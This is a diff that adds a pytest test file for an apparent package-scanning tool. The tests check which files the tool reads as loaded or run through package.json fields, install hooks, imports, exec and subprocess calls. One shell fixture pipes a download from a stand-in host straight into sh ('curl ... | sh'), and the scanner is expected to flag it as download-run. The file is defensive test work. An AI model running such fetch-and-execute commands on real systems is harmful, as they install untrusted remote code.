@@ -1,0 +1,105 @@
+"""Code is read where something loads or starts it, wherever it lies and whatever it is called; all else stays aside."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from driftseal.limits import DEFAULT_LIMITS
+from driftseal.observe import program
+
+LOADED = "const fs = require('fs');\nfs.writeFileSync('/tmp/x', 'y');\n"
+PYTHON = "import os\nos.system('true')\n"
+SHELL = "curl -s https://h.example/x \\\n  | sh\n# a note\nexport A=1\n"
+
+
+def modules(files: dict[str, str]) -> dict[str, str]:
+    """The language of every file that is read."""
+    data = {path: text.encode() for path, text in files.items()}
+    members = [(path, text) for path, text in data.items() if program.is_read(path)]
+    read = program.read(members, DEFAULT_LIMITS, texts=data.get)
+    return {path: module.language for path, module in read.project.modules.items()}
+
+
+def package(**about: object) -> str:
+    return json.dumps({"name": "x", **about})
+
+
+@pytest.mark.parametrize(
+    ("file", "files"),
+    [
+        ("bin/server", {"package.json": package(bin={"x": "./bin/server"})}),
+        ("bin/server", {"package.json": package(bin="bin/server")}),
+        ("lib/data.txt", {"package.json": package(main="./lib/data.txt")}),
+        ("tests/all.js", {"package.json": package(exports={".": {"require": "./tests/all"}})}),
+        ("setup", {"package.json": package(scripts={"postinstall": "node ./setup"})}),
+        ("lib/data.dat", {"index.js": "require('./lib/data.dat');"}),
+        ("vendor/util.js", {"src/index.js": "import { a } from '../vendor/util.js';"}),
+        ("tests/deep/b.js", {"index.js": "require('./tests/a');", "tests/a.js": "require('./deep/b');"}),
+        ("helper.bin", {"index.js": "const { fork } = require('child_process');\nfork('./helper.bin');"}),
+        (
+            "node_modules/a/i.js",
+            {"package.json": package(bundledDependencies=["a"]), "node_modules/a/package.json": '{"main": "i"}'},
+        ),
+    ],
+)
+def test_a_script_that_is_loaded_is_read(file: str, files: dict[str, str]) -> None:
+    assert modules({"server.js": "", **files, file: LOADED})[file] == "javascript"
+
+
+@pytest.mark.parametrize(
+    ("file", "source"),
+    [
+        ("docs/helper.py", "from docs import helper"),
+        ("docs/helper.py", "import docs.helper"),
+        ("tests/helper.py", "from .tests.helper import run"),
+        ("data.txt", "exec(open('data.txt').read())"),
+        ("data.txt", "exec(compile((Path(__file__).parent / 'data.txt').read_text(), 'x', 'exec'))"),
+        ("part.dat", "runpy.run_path('part.dat')"),
+        ("part.dat", "subprocess.Popen([sys.executable, 'part.dat'])"),
+    ],
+)
+def test_python_that_is_loaded_is_read(file: str, source: str) -> None:
+    assert modules({"server.py": source, file: PYTHON})[file] == "python"
+
+
+@pytest.mark.parametrize(
+    ("file", "files"),
+    [
+        ("setup.sh", {"package.json": package(scripts={"postinstall": "sh ./setup.sh"})}),
+        ("scripts/prepare", {"server.py": "subprocess.run(['bash', 'scripts/prepare'])"}),
+        ("scripts/prepare.sh", {"server.py": "os.system('scripts/prepare.sh --quiet')"}),
+    ],
+)
+def test_a_script_of_the_shell_that_is_run_is_read_line_by_line(file: str, files: dict[str, str]) -> None:
+    data = {path: text.encode() for path, text in {**files, file: SHELL}.items()}
+    members = [(path, text) for path, text in data.items() if program.is_read(path)]
+    read = program.read(members, DEFAULT_LIMITS, texts=data.get)
+    assert ("download-run", file, 1) in {(fact.name, fact.path, fact.line) for fact in read.facts.facts}
+
+
+def test_a_program_says_by_its_first_line_what_it_is_written_in() -> None:
+    files = {"package.json": package(bin={"a": "bin/a", "b": "bin/b"}), "bin/a": f"#!/usr/bin/env python3\n{PYTHON}"}
+    assert modules({**files, "bin/b": f"#!/bin/sh\n{SHELL}", "i.js": ""})["bin/a"] == "python"
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"index.js": "const a = 1;", "tests/util.js": LOADED},
+        {"index.js": "fs.readFileSync('./data.txt'); run('x');", "data.txt": "a"},
+        {"index.js": "import a from './data.json';", "data.json": "{}"},
+        {"index.js": "require('./x.bin');", "x.bin": "\0\0\0"},
+        {"server.py": "subprocess.run(['git', 'log', 'notes.txt'])", "notes.txt": "a"},
+        {"server.py": "from tests import missing"},
+        {"package.json": package(main="../outside.js"), "index.js": ""},
+    ],
+)
+def test_what_nothing_runs_stays_aside(files: dict[str, str]) -> None:
+    assert len(modules(files)) == 1
+
+
+def test_files_that_load_one_another_for_ever_end_somewhere() -> None:
+    files = {f"tests/f{n}.js": f"require('./f{n + 1}');" for n in range(500)}
+    assert len(modules({"index.js": "require('./tests/f0');", **files})) <= 65
